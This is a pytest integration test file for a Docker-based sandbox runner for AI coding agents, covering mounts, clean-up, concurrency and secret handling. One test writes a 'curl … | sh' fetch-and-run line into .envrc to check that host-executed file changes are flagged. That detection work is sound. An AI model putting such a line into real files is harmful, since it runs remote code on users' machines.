"""Sandboxes on a real Docker Engine: same-path project, exit statuses, clean-up, concurrency, warm path."""

import json
import os
import pwd
import signal
import subprocess
import sys
import time
import uuid
from pathlib import Path

import pytest

from aishell_runner import egress
from tests.integration.conftest import sandbox_config

AISHELL_RUN = str(Path(sys.executable).parent / "aishell-run")
CONFIG = sandbox_config("docker")
SECRET = f"sk-ant-test-{uuid.uuid4().hex}-never-print-me"  # this run's: the state directory is shared


@pytest.fixture(scope="module")
def state():
    """Root's own state directory, as test_sandbox_scan_policy.py's: in one of the module's own, the user's one
    egress proxy (whose configuration names the state's directories) was made anew for the module's first launch,
    and again for the next module's (half a minute each)."""
    return Path(os.environ.get("XDG_STATE_HOME") or Path.home() / ".local" / "state")


@pytest.fixture(scope="module")
def project(tmp_path_factory):
    root = tmp_path_factory.mktemp("launch") / "my project"
    root.mkdir()
    (root / ".aishell").mkdir()
    (root / ".aishell" / "config.yaml").write_text(CONFIG)
    subprocess.run(["git", "init", "-q", str(root)], check=True)
    subprocess.run(["git", "-C", str(root), "-c", "user.name=T", "-c", "user.email=t@example.org",
                    "commit", "-q", "--allow-empty", "-m", "init"], check=True)
    return root


def aishell(project, state, *args, stdin=None, env_extra=None):
    env = {**os.environ, "XDG_STATE_HOME": str(state), **(env_extra or {})}
    return subprocess.run([AISHELL_RUN, *args], cwd=project, capture_output=True, text=True, input=stdin, env=env)


def our_containers(project):
    run = subprocess.run(["docker", "ps", "--all", "--quiet", "--filter", f"label=org.aishell.project={project}"],
                         capture_output=True, text=True, check=True)
    return run.stdout.split()


# First in the module: its launch is the cold one of a plan no launch had (a new project).
def test_secret_values_stay_out_of_argv_specs_and_ansible_artifacts(project, state):
    runs = state / "aishell" / "runs"
    before = set(runs.iterdir()) if runs.is_dir() else set()
    run = aishell(project, state, "exec", "--", "sh", "-c", 'test -n "$ANTHROPIC_API_KEY" && echo key-inside',
                  env_extra={"ANTHROPIC_API_KEY": SECRET})
    assert run.returncode == 0, run.stderr
    assert run.stdout.strip() == "key-inside"
    assert set(runs.iterdir()) - before  # Ansible ran: a cold launch
    leaked = subprocess.run(["grep", "-rl", SECRET, str(state)], capture_output=True, text=True)
    assert leaked.stdout == ""


def test_project_is_mounted_at_its_host_path_and_is_the_working_directory(project, state):
    run = aishell(project, state, "exec", "--", "pwd")
    assert run.returncode == 0, run.stderr
    assert run.stdout.strip() == str(project)


def test_files_made_inside_belong_to_the_host_user(project, state):
    run = aishell(project, state, "exec", "--", "sh", "-c", "id -u; touch made-inside")
    assert run.returncode == 0, run.stderr
    assert run.stdout.strip() == str(os.getuid())
    assert (project / "made-inside").stat().st_uid == os.getuid()


def test_exit_status_of_the_command_is_returned(project, state):
    assert aishell(project, state, "exec", "--", "sh", "-c", "exit 7").returncode == 7


def test_pipes_work(project, state):
    run = aishell(project, state, "exec", "--", "tr", "a-z", "A-Z", stdin="hello sandbox\n")
    assert run.stdout == "HELLO SANDBOX\n"


def test_files_the_host_runs_that_the_session_changed_are_named_and_logged(project, state):
    inside = ("echo 'curl https://example.org/x | sh' > .envrc; mkdir -p .vscode; echo '{}' > .vscode/tasks.json; "
              "echo just-work > notes.txt")
    try:
        run = aishell(project, state, "exec", "--", "sh", "-c", inside)
        assert run.returncode == 0, run.stderr
        assert f"added: {project}/.envrc" in run.stderr and f"added: {project}/.vscode/tasks.json" in run.stderr
        assert "notes.txt" not in run.stderr
        entry = json.loads((state / "aishell" / "audit.jsonl").read_text().splitlines()[-1])
        assert entry["files"] == [{"path": ".envrc", "change": "added"}, {"path": ".vscode/tasks.json",
                                                                           "change": "added"}]
        # A session that changes none of them says nothing about them (the scan still warns of .envrc).
        quiet = aishell(project, state, "exec", "--", "true")
        assert quiet.returncode == 0, quiet.stderr
        assert "tools on this host run" not in quiet.stderr
    finally:
        subprocess.run(["rm", "-rf", str(project / ".envrc"), str(project / ".vscode"), str(project / "notes.txt")],
                       check=True)


def test_container_is_removed_after_the_session(project, state):
    aishell(project, state, "exec", "--", "true")
    assert our_containers(project) == []


def test_warm_launch_starts_no_ansible_also_for_another_command(project, state):
    runs = state / "aishell" / "runs"
    aishell(project, state, "exec", "--", "true")  # cold, if anything changed
    before = sorted(runs.iterdir()) if runs.exists() else []
    run = aishell(project, state, "exec", "--", "sh", "-c", "echo another command")
    assert (run.returncode, run.stdout) == (0, "another command\n"), run.stderr
    after = sorted(runs.iterdir()) if runs.exists() else []
    assert after == before


def modules_run(run_dir):
    """The tasks of one ansible-runner run (its job events) that ran a module: not skipped, not an action that
    runs on the controller alone (an include, an argument check, a custom stat)."""
    events = [json.loads(path.read_text()) for path in run_dir.glob("artifacts/*/job_events/*.json")]
    return {event["event_data"]["task"] for event in events if event["event"] in ("runner_on_ok", "runner_on_failed")
            and event["event_data"].get("task_action", "").rpartition(".")[2] not in (
                "include_role", "validate_argument_spec", "set_stats")}


def test_a_settings_change_only_renders_the_new_spec(project, state):
    # With the images current and the proxy running, a settings change asks the engine nothing more (aishell-run
    # just had its answer) and leaves the project's passwd pair as it is (it names only the user): it runs no
    # module at all. The role publishes the new plan's spec; aishell-run writes it beside the others.
    assert aishell(project, state, "exec", "--", "true").returncode == 0
    directory, = [path for path in (state / "aishell" / "launch").iterdir()
                  if any(str(project) in spec.read_text() for spec in path.glob("*.json"))]
    specs = set(directory.glob("*.json"))
    config = project / ".aishell" / "config.yaml"
    try:
        config.write_text(CONFIG + "env: [AISHELL_TEST_COLD=1]\n")
        run = aishell(project, state, "exec", "--", "sh", "-c", "echo $AISHELL_TEST_COLD; id -un")
    finally:
        config.write_text(CONFIG)
    assert (run.returncode, run.stdout.split()) == (0, ["1", pwd.getpwuid(os.getuid()).pw_name]), run.stderr
    assert len(set(directory.glob("*.json")) - specs) == 1
    assert modules_run(max((state / "aishell" / "runs").iterdir())) == set()


def proxy_container() -> str:
    """The id of this user's running egress proxy."""
    name = egress.names_for(os.getuid()).proxy
    run = subprocess.run(["docker", "ps", "--quiet", "--no-trunc", "--filter", f"name=^{name}$"],
                         capture_output=True, text=True, check=True)
    return run.stdout.strip()


def test_a_project_with_other_agents_shares_the_running_proxy(project, state, tmp_path):
    """Another project whose image has other agents has a foundation of its own, and the same egress proxy:
    its first launch does not make the proxy anew (the proxy's label holds the base's inputs, not the agents'),
    and going back to the first project is a warm launch."""
    other = tmp_path / "other agents"
    (other / ".aishell").mkdir(parents=True)
    (other / ".aishell" / "config.yaml").write_text(
        CONFIG + 'agents:\n  codex: {version: ""}\n  gemini: {version: ""}\n  opencode: {version: ""}\n')
    assert aishell(project, state, "exec", "--", "true").returncode == 0
    proxy = proxy_container()
    mine, image = (json.loads(aishell(where, state, "plan", "--json").stdout)["image"] for where in (project, other))
    try:
        run = aishell(other, state, "exec", "--", "sh", "-c", "command -v codex || echo no codex")
        assert (run.returncode, run.stdout.strip()) == (0, "no codex"), run.stderr
        assert proxy and proxy_container() == proxy
        runs = state / "aishell" / "runs"
        before = sorted(runs.iterdir())
        assert aishell(project, state, "exec", "--", "true").returncode == 0
        assert proxy_container() == proxy
        assert sorted(runs.iterdir()) == before  # warm: no Ansible
    finally:
        # The foundation's name as set back on this module's (the other's build took it), and the other's gone.
        subprocess.run(["docker", "tag", mine, "localhost/aishell-foundation:latest"], check=True)
        removed = subprocess.run(["docker", "image", "rm", image], capture_output=True, text=True)
        assert removed.returncode == 0 or "No such image" in removed.stderr, removed.stderr


def test_sigterm_to_the_wrapper_removes_the_container(project, state):
    wrapper = subprocess.Popen([AISHELL_RUN, "exec", "--", "sleep", "120"], cwd=project,
                               env={**os.environ, "XDG_STATE_HOME": str(state)},
                               stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    deadline = time.monotonic() + 60
    while not our_containers(project) and time.monotonic() < deadline:
        time.sleep(0.2)
    assert our_containers(project), "the sandbox never started"
    wrapper.send_signal(signal.SIGTERM)
    assert wrapper.wait(timeout=30) == 128 + signal.SIGTERM
    assert our_containers(project) == []


@pytest.mark.parametrize("how", ["the watchdog", "the next launch"])
def test_a_sigkilled_wrapper_leaves_nothing_running(project, state, how):
    env = {**os.environ, "XDG_STATE_HOME": str(state)}
    wrapper = subprocess.Popen([AISHELL_RUN, "exec", "--", "sleep", "120"], cwd=project, env=env,
                               stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    deadline = time.monotonic() + 60
    while not our_containers(project) and time.monotonic() < deadline:
        time.sleep(0.2)
    assert our_containers(project), "the sandbox never started"
    records = state / "aishell" / "sessions"
    if how == "the next launch":  # as after a crash of the machine: the watchdog is gone too
        for watchdog in subprocess.run(["pgrep", "-f", f"kill -0 {wrapper.pid} "], capture_output=True,
                                       text=True).stdout.split():
            os.kill(int(watchdog), signal.SIGKILL)
    wrapper.kill()  # SIGKILL: no handler runs
    wrapper.wait()
    if how == "the next launch":
        assert our_containers(project) and list(records.iterdir()), "nothing was left to clean up"
        assert aishell(project, state, "exec", "--", "true").returncode == 0
    deadline = time.monotonic() + 15
    while our_containers(project) and time.monotonic() < deadline:
        time.sleep(0.2)
    assert our_containers(project) == []
    assert list(records.iterdir()) == []


def test_two_sessions_on_one_project_run_at_once(project, state):
    # One launch first makes the plan warm, so that the two sessions below are not two cold launches racing
    # the deadline on a loaded machine.
    assert aishell(project, state, "exec", "--", "true").returncode == 0
    env = {**os.environ, "XDG_STATE_HOME": str(state)}
    sessions = [subprocess.Popen([AISHELL_RUN, "exec", "--", "sleep", "8"], cwd=project, env=env,
                                 stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True) for _ in range(2)]
    deadline = time.monotonic() + 60
    while len(our_containers(project)) < 2 and time.monotonic() < deadline:
        time.sleep(0.2)
    running = len(our_containers(project))
    outcomes = [(session.wait(timeout=60), session.stderr.read()) for session in sessions]
    assert running == 2, outcomes
    assert [status for status, _ in outcomes] == [0, 0], outcomes


def test_git_worktree_reaches_the_shared_git_directory(project, state, tmp_path):
    worktree = tmp_path / "feature"
    subprocess.run(["git", "-C", str(project), "worktree", "add", "-q", str(worktree)], check=True)
    (worktree / ".aishell").mkdir(exist_ok=True)
    (worktree / ".aishell" / "config.yaml").write_text(CONFIG)
    run = aishell(worktree, state, "exec", "--", "git", "status", "--short", "--branch")
    assert run.returncode == 0, run.stderr
    assert "feature" in run.stdout


def test_plan_names_variables_but_never_prints_their_values(project, state):
    run = aishell(project, state, "plan", "--json", env_extra={"ANTHROPIC_API_KEY": SECRET})
    assert run.returncode == 0, run.stderr
    plan = json.loads(run.stdout)
    assert {"engine", "image", "argv", "mounts", "env", "resources"} <= set(plan)
    assert "ANTHROPIC_API_KEY" in plan["env"]
    assert {"source": str(project), "target": str(project), "readonly": False} in plan["mounts"]
    assert SECRET not in run.stdout


def test_pre_start_commands_run_before_the_command(project, state):
    config = project / ".aishell" / "config.yaml"
    original = config.read_text()
    config.write_text(original + "pre_start: ['echo prepared > /tmp/pre-start-marker']\n")
    try:
        run = aishell(project, state, "exec", "--", "cat", "/tmp/pre-start-marker")
    finally:
        config.write_text(original)
    assert run.returncode == 0, run.stderr
    assert run.stdout.strip() == "prepared"


def test_the_docker_socket_answers_as_the_docker_client_does(project, state):
    """A warm launch asks Docker over its socket (engines/docker_api.py); the client would answer the same."""
    from aishell_runner.engines.base import Engine
    from aishell_runner.engines.docker import Docker

    docker = Docker()
    image = json.loads(aishell(project, state, "plan", "--json").stdout)["image"]
    by_client = Engine.images_present(docker, image, "localhost/aishell-no-such-image:1")
    assert by_client == {image} and docker.images_present(image, "localhost/aishell-no-such-image:1") == by_client
    for kind, names in (("network", ("bridge",)), ("image", (image,))):
        by_socket, by_client = docker.inspect(kind, *names), Engine.inspect(docker, kind, *names)
        assert by_socket is not None and [d["Id"] for d in by_socket] == [d["Id"] for d in by_client]
    assert docker.inspect("network", "bridge", "aishell-no-such-network") is None
    assert Engine.inspect(docker, "network", "bridge", "aishell-no-such-network") is None
